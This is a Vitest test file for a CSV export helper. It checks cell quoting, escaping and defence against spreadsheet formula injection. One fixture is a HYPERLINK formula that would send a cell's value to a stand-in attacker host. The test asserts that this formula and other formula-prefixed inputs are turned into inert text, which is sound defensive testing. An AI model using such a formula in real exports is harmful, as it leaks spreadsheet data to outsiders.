import { describe, expect, it } from "vitest";
import { answerCellValue, csvCell, csvRow, neutraliseFormula } from "./csv";

describe("csvCell", () => {
  it.each<[unknown, string]>([
    [null, ""],
    [undefined, ""],
    ["plain", "plain"],
    [42, "42"],
    [-3.5, "-3.5"],
    [Number.NaN, ""],
    [true, "true"],
    [new Date("2026-12-01T15:00:00Z"), "2026-12-01T15:00:00.000Z"],
    [["a", "b"], "a; b"],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    [" padded ", '" padded "'],
    ["Zoë 東京", "Zoë 東京"],
  ])("%j → %j", (value, cell) => {
    expect(csvCell(value as Parameters<typeof csvCell>[0])).toBe(cell);
  });

  it.each<[string, string]>([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ["=1+1", "'=1+1"],
    ["+1-800-555", "'+1-800-555"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=cmd", "'\t=cmd"],
    ["\r=cmd", `"'\r=cmd"`],
  ])("a formula %j is written as inert text %j", (text, cell) => {
    expect(csvCell(text)).toBe(cell);
    expect(csvCell(text).replace(/^"/, "")).toMatch(/^'/);
  });

  it("neutralises every item of a list only at the cell's start", () => {
    expect(csvCell(["=x", "ok"])).toBe("'=x; ok");
    expect(neutraliseFormula("a=b")).toBe("a=b");
  });
});

describe("csvRow and answers", () => {
  it("joins with commas and ends in CRLF", () => {
    expect(csvRow(["a", 1, null, "=b"])).toBe("a,1,,'=b\r\n");
  });

  it.each<[unknown, unknown]>([
    ["x", "x"],
    [3, 3],
    [false, false],
    [["a", 1], ["a", "1"]],
    [{ a: 1 }, '{"a":1}'],
    [null, null],
  ])("answer %j → %j", (value, cell) => {
    expect(answerCellValue(value)).toEqual(cell);
  });
});
